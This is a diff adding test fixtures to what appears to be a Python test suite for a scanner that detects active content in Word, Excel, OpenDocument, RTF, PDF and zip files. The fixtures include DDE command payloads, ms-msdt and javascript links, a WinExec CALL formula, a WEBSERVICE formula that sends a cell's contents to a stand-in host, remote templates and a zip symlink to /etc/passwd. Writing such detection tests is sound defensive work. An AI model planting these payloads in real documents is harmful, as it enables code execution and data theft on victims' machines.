@@ -65,6 +65,45 @@ def rtf(instruction: str) -> bytes:
     return ("{\\rtf1{\\field{\\*\\fldinst " + instruction + "}}}").encode()
 
 
+ODT = "application/vnd.oasis.opendocument.text"
+LINKED = "<a xmlns:x='http://www.w3.org/1999/xlink'><b x:href='{}'/></a>"
+CELL = "<a xmlns:t='urn:x'><t:cell t:formula='{}'/></a>"
+LINKS = (
+    "https://www.example.go.th/a.exe",
+    "mailto:a@example.go.th",
+    "file:///C:/Users/a/รายงาน.docx",
+    "ms-word:ofe|u|https://a.example/a.docx",
+    "data:image/png;base64,AA",
+    "โทร:038-123456",
+    "คำสั่ง.com",
+    "#ข้อ1",
+)
+
+
+def with_link(address: str) -> bytes:
+    made, stream = pikepdf.new(), io.BytesIO()
+    made.add_blank_page()
+    action = pikepdf.Dictionary(S=pikepdf.Name.URI, URI=address)
+    link = pikepdf.Dictionary(Subtype=pikepdf.Name.Link, Rect=[0, 0, 9, 9], A=action)
+    made.pages[0].obj.Annots = pikepdf.Array([link])
+    made.save(stream)
+    return stream.getvalue()
+
+
+def sheet(cell: str) -> bytes:
+    part = f"<worksheet><row><c>{cell}</c></row></worksheet>"
+    return packed({"xl/workbook.xml": "<a/>", "xl/worksheets/sheet1.xml": part})
+
+
+def with_symlink() -> bytes:
+    stream = io.BytesIO()
+    with zipfile.ZipFile(stream, "w") as archive:
+        entry = zipfile.ZipInfo("a.txt")
+        entry.create_system, entry.external_attr = 3, 0o120777 << 16
+        archive.writestr(entry, "/etc/passwd")
+    return stream.getvalue()
+
+
 MUCH = "a,b\n" * 600_000
 RUNNING = {
     "a kind in UTF-16": word({KINDS: ENABLED.encode("utf-16")}),
@@ -104,6 +143,28 @@ RUNNING = {
     "a field of an old document": ole_file({"WordDocument": b"a\x13 DDEAUTO c:\\\\calc.exe\x14b\x15"}),
     "a field of an old document in UTF-16": ole_file({"WordDocument": "\x13dde cmd\x14\x15".encode("utf-16-le")}),
     "a script of a form under a prefix": form(b"<x:template><x:script>1</x:script>"),
+    "a link of a document to a script": linked("java\tscript:alert(1)", "hyperlink"),
+    "a link of a document to a tool of Windows": linked("ms-msdt:/id PCWDiagnostic", "hyperlink"),
+    "a link of a document to a search elsewhere": linked("search-ms:query=a", "hyperlink"),
+    "a link of a document to a program": linked("file:///c:/windows/system32/calc.exe", "hyperlink"),
+    "a link of a document to a program of a network": linked("\\\\x\\a.hta", "hyperlink"),
+    "a link of OpenDocument to a script": packed({"mimetype": ODT, "content.xml": LINKED.format("vbscript:1")}),
+    "a link of a PDF to a script": with_link("javascript:alert(1)"),
+    "a link of a PDF to a program": with_link("file:///c:/windows/calc.exe"),
+    "a link of a PDF in UTF-16": with_link("javascript:alert('ก')"),
+    "a formula that calls a library": sheet('<f>CALL("Kernel32","WinExec","JCJ","calc",0)</f>'),
+    "a formula that sends what is in a cell": sheet('<f>_xlfn.WEBSERVICE("http://x.example/?"&amp;A1)</f>'),
+    "a formula in two pieces": sheet("<f>REGI<!-- -->STER.ID(1)</f>"),
+    "a program of DDE in a formula": sheet("<f>cmd|'/c calc'!A0</f>"),
+    "a program of DDE in a rule": sheet("<formula1>cmd|'/c calc'!A0</formula1>"),
+    "a program of DDE in a name": packed({"xl/workbook.xml": "<a><definedName name='a'>cmd|'/c calc'!A0</definedName></a>"}),
+    "a formula of OpenDocument that sends": packed({"mimetype": ODT, "content.xml": CELL.format("of:=WEBSERVICE([.A1])")}),
+    "a template of RTF in other signs": b"{\\rtf1{\\*\\template \\u104?ttp://x.example/a}}",
+    "a template of RTF on a drive": b"{\\rtf1{\\*\\template file://server/a.dotm}}",
+    "a link in an archive": with_symlink(),
+    "a member of an archive with a drive": packed({"C:\\a.txt": "x"}),
+    "a member of an archive at the root": packed({"/etc/a.txt": "x"}),
+    "settings of a folder in an archive": packed({"a/Desktop.ini": "x"}),
     "a script of a form in UTF-16": form("<template><script>1</script>".encode("utf-16")),
 }  # fmt: skip
 
@@ -114,6 +175,15 @@ def test_what_runs_is_found(what: str) -> None:
 
 
 HARMLESS = {
+    "links of documents": word(
+        {
+            f"word/_rels/{number}.rels": LINK.format(f"{REL}/hyperlink", target)
+            for number, target in enumerate(LINKS)
+        }
+    ),
+    "links of a PDF": with_link("https://www.example.go.th/a.php?b=javascript:1"),
+    "formulas": sheet("<f>SUM(A1:B2)+RECALL(1)&amp;HYPERLINK(A1)</f><f>Sheet1!A1</f>"),
+    "a formula with a bar and a mark": sheet('<f>A1&amp;"|"&amp;Sheet2!A1</f>'),
     "a template of one's own computer": linked("file:///C:\\Templates\\a.dotm"),
     "a template of one's own Mac": linked("file:///Users/a/a.dotx"),
     "a link of the text": linked("https://www.example.go.th/", "hyperlink"),
